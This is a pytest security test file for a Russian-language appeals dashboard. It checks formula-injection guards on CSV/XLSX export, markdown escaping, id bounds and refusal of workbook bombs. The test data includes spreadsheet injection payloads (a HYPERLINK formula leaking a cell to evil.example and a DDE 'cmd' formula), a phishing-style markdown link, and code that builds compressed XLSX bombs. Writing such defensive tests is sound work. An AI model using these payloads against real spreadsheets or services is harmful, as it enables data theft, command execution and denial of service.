"""Security as an attacker would try it: formulas in exports, markdown in texts and links, ids out
of range, and (below) sessions, throttling, audit, uploads and workbooks."""
import contextlib
import csv
import datetime as dt
import io
import re

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import text

from dashboard import fmt
from dashboard.context import Context
from dashboard.ui import to_csv, to_xlsx
from queries.filters import Filters
from queries.viewer import Viewer

from .conftest import SMALL_AS_OF
from .pagetools import run_page

PARAMS = {"from": "2021-02-01", "to": "2021-03-31"}
FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"жми\")", "+7 913 123-45-67", "-2+3", "@SUM(A1:A2)",
            "\tтаб", "\r=1+1", "=cmd|' /C calc'!A0"]


def _ctx() -> Context:
    empty = pd.DataFrame({"id": [], "code": [], "name_ru": [], "name_en": []})
    return Context("sqlite://", Filters(dt.date(2021, 2, 1), dt.date(2021, 3, 31)), "ru", SMALL_AS_OF,
                   empty, empty, empty, {}, Viewer("a", "analyst"))


def test_exported_cells_never_run_as_formulas():
    df = pd.DataFrame({"Текст": FORMULAS, "Число": range(len(FORMULAS)), "=Заголовок": ["обычный"] * len(FORMULAS)})
    rows = list(csv.reader(io.StringIO(to_csv(df).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0][2] == "'=Заголовок"
    assert [r[0] for r in rows[1:]] == ["'" + v for v in FORMULAS]
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(FORMULAS))]  # numbers untouched
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(df, "Обращения", _ctx())))
    sheet = book["data"]
    wanted = {v.replace("\r", "\n") for v in FORMULAS}  # XML reads a carriage return back as a line feed
    cells = [c for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.replace("\r", "\n") in wanted]
    assert len(cells) == len(FORMULAS)
    assert all(c.data_type == "s" for c in cells)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_command_line_export_guards_and_the_importer_restores(small_sqlite, tmp_path):
    """ingest.export writes the guard, the importer takes it off: a formula-like text round-trips as it was."""
    import shutil
    from pathlib import Path

    from queries.db import make_engine
    from ingest.export import export_csv
    from ingest.run import run_import
    from ingest.mapping import load_mapping
    copy = tmp_path / "copy.sqlite"
    shutil.copy(small_sqlite.url.database, copy)
    engine = make_engine(f"sqlite:///{copy}")
    with engine.begin() as c:
        ids = [r[0] for r in c.execute(text("select id from appeals order by id limit 3"))]
        for i, value in zip(ids, ["=1+1 и всё", "-сломан фонарь", "@администрация"]):
            c.execute(text("update appeals set text = :t where id = :i"), {"t": value, "i": i})
    out = tmp_path / "export.csv"
    with engine.connect() as c, open(out, "w", encoding="utf-8", newline="") as fh:
        export_csv(c, fh)
    texts = [r["text"] for r in csv.DictReader(open(out, encoding="utf-8"))]
    assert {"'=1+1 и всё", "'-сломан фонарь", "'@администрация"} <= set(texts)
    target = make_engine(f"sqlite:///{tmp_path / 'back.sqlite'}")
    run_import(target, out, load_mapping(Path(__file__).resolve().parent.parent / "ingest" / "mappings" / "cur_export.toml"))
    with engine.connect() as a, target.connect() as b:
        before = dict(a.execute(text("select external_id, text from appeals")).all())
        after = dict(b.execute(text("select external_id, text from appeals")).all())
    assert before == after


def _with_text(engine, appeal_id: int, value: str):
    """Set one appeal's text for the test, restored afterwards (the small databases are shared)."""
    @contextlib.contextmanager
    def cm():
        with engine.begin() as c:
            old = c.execute(text("select text from appeals where id = :i"), {"i": appeal_id}).scalar_one()
            c.execute(text("update appeals set text = :t where id = :i"), {"t": value, "i": appeal_id})
        try:
            yield
        finally:
            with engine.begin() as c:
                c.execute(text("update appeals set text = :t where id = :i"), {"t": old, "i": appeal_id})
    return cm()


MARKDOWN_TEXT = ("# Заголовок\n![пиксель](http://127.0.0.1:9/pixel.png) [Войдите снова](https://evil.example) "
                 "**жирный** $x^2$ <img src=x>")


def test_appeal_text_and_url_parameters_show_as_plain_text(small_db):
    url = small_db.url.render_as_string(hide_password=False)
    with small_db.connect() as c:
        appeal_id = c.execute(text("select min(id) from appeals")).scalar_one()
    with _with_text(small_db, appeal_id, MARKDOWN_TEXT):
        at = run_page(url, SMALL_AS_OF, "pages/cases.py", id=str(appeal_id), **PARAMS)
        bodies = [m.value for m in at.markdown]
        quoted = [b for b in bodies if "Заголовок" in b]
        assert quoted == ["> " + fmt.plain(MARKDOWN_TEXT)]
        assert "\\#" in quoted[0] and "\\!\\[" in quoted[0] and "\\]\\(" in quoted[0]
    at = run_page(url, SMALL_AS_OF, territory="[Войдите снова](https://evil.example)", **PARAMS)
    warnings = [w.value for w in at.warning]
    assert any("\\[Войдите снова\\]\\(https\\:" in w for w in warnings), warnings
    assert not any("[Войдите снова](" in w for w in warnings)


@pytest.mark.parametrize("raw", ["99999999999999999999999", "9223372036854775808", "0"])
def test_case_ids_out_of_range_are_not_found(small_db, raw):
    url = small_db.url.render_as_string(hide_password=False)
    at = run_page(url, SMALL_AS_OF, "pages/cases.py", id=raw, **PARAMS)
    assert not at.exception
    assert any("не найдено" in w.value for w in at.warning)


# ---- workbooks that are not what they say ------------------------------------------------------

def _workbook(tmp_path, name="ok.xlsx"):
    wb = openpyxl.Workbook()
    wb.active.append(["Номер", "Текст"])
    wb.active.append(["1", "яма"])
    path = tmp_path / name
    wb.save(path)
    return path


def _rewritten(src, dst, replace: dict[str, bytes]):
    import zipfile
    with zipfile.ZipFile(src) as a, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as b:
        names = a.namelist()
        for n in names:
            b.writestr(n, replace.get(n, a.read(n)))
        for n, body in replace.items():
            if n not in names:
                b.writestr(n, body)
    return dst


@pytest.mark.parametrize("bomb", ["shared_string", "dimension", "not_a_zip"])
def test_workbook_bombs_are_refused_before_parsing(tmp_path, bomb):
    import time

    from ingest.mapping import InputError
    from ingest.workbook import check_workbook
    ok = _workbook(tmp_path)
    assert check_workbook(ok) == 2
    if bomb == "shared_string":  # one 300 MB text compresses to a few hundred KB
        body = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' \
               b"<si><t>" + b"a" * (300 * 2**20) + b"</t></si></sst>"
        path = _rewritten(ok, tmp_path / "bomb.xlsx", {"xl/sharedStrings.xml": body})
        key = "input_xlsx_size" if len(body) > 512 * 2**20 else "input_xlsx_ratio"
    elif bomb == "dimension":
        sheet = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                 b'<dimension ref="A1:XFD2000000"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is>'
                 b"</c></row></sheetData></worksheet>")
        path = _rewritten(ok, tmp_path / "wide.xlsx", {"xl/worksheets/sheet1.xml": sheet})
        key = "input_xlsx_dimension"
    else:
        path = tmp_path / "fake.xlsx"
        path.write_bytes("Номер;Текст\n1;яма\n".encode())
        key = "input_xlsx"
    assert path.stat().st_size < 2 * 2**20
    started = time.monotonic()
    with pytest.raises(InputError) as refused:
        check_workbook(path)
    assert refused.value.key == key and time.monotonic() - started < 5  # nothing was expanded
    from dashboard.i18n import set_lang, t
    set_lang("ru")
    message = t(f"import.error.{key}", **refused.value.params)
    assert message and not re.search(r"[A-Za-z]{3,}", message.replace("Excel", "").replace("XLSX", "").replace("CSV", ""))


def test_importer_refuses_a_bomb_with_nothing_written(small_sqlite, tmp_path):
    from pathlib import Path

    from queries.db import make_engine
    from ingest.run import run_import
    from ingest.mapping import InputError, load_mapping
    ok = _workbook(tmp_path)
    sheet = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             b'<dimension ref="A1:XFD2000000"/><sheetData/></worksheet>')
    bomb = _rewritten(ok, tmp_path / "wide.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    engine = make_engine(f"sqlite:///{tmp_path / 'target.sqlite'}")
    mapping = load_mapping(Path(__file__).resolve().parent.parent / "ingest" / "mappings" / "cur_export.toml")
    with pytest.raises(InputError) as refused:  # the project's own mapping says CSV: said so, no traceback
        run_import(engine, bomb, mapping, dry_run=True)
    assert refused.value.key == "input_csv_binary"
    import dataclasses
    with pytest.raises(InputError) as refused:
        run_import(engine, bomb, dataclasses.replace(mapping, format="auto"), dry_run=True)
    assert refused.value.key == "input_xlsx_dimension"


def test_make_run_listens_on_this_machine_only():
    import subprocess
    from pathlib import Path
    root = Path(__file__).resolve().parent.parent
    plan = subprocess.run(["make", "-n", "-W", ".venv/.base", "run"], cwd=root, capture_output=True, text=True).stdout
    serve = next(line for line in plan.splitlines() if "streamlit run" in line)
    assert "dashboard/server.py" in serve and "--server.address 127.0.0.1" in serve
    plan = subprocess.run(["make", "-n", "-W", ".venv/.base", "run", "ADDRESS=0.0.0.0"], cwd=root, capture_output=True,
                          text=True).stdout
    assert "--server.address 0.0.0.0" in plan


def test_case_export_holds_every_row_of_the_view(small_db):
    """The export is every case the filters select, not the page shown (independent count: pandas)."""
    from dashboard import data
    from .pagetools import frame, select
    url = small_db.url.render_as_string(hide_password=False)
    period = Filters(dt.date(2021, 2, 1), dt.date(2021, 3, 31), territories=("50701000",))
    import os
    os.environ["DATABASE_URL"] = url  # dashboard.data reads the app's database from it
    rows = data.case_export(url, Viewer("a", "analyst"), period, SMALL_AS_OF, "", "newest")
    expected = select(frame(small_db), period.date_from, period.date_to, territory="50701000")
    assert len(expected) > 50 and len(rows) == len(expected)
    assert set(rows["id"]) == set(expected["id"])
    assert rows["text"].str.len().max() == expected["text"].str.len().max()  # whole texts, not the list's 300
    body = to_csv(rows[["id", "text"]], "Обращения", _ctx()).decode("utf-8-sig")
    first, rest = body.split("\r\n", 1)
    assert first.startswith("# Обращения · Период: 01.02.2021 — 31.03.2021") and "По состоянию на" in first
    assert len(list(csv.reader(io.StringIO(rest, newline=""), delimiter=";"))) == len(expected) + 1


@pytest.mark.parametrize("query", ["9223372036854775808", "№99999999999999999999999"])
def test_searching_for_a_number_past_any_id_finds_nothing_quietly(small_db, query):
    """Found by the fuzz test of test_faults: an all-digit search past bigint did not bind."""
    from queries.cases import case_list
    with small_db.connect() as c:
        for role in (Viewer("a", "analyst"), Viewer("p", "press")):
            rows, total = case_list(c, Filters(dt.date(2021, 2, 1), dt.date(2021, 3, 31)), role, SMALL_AS_OF, query)
            assert total == 0 and rows.empty
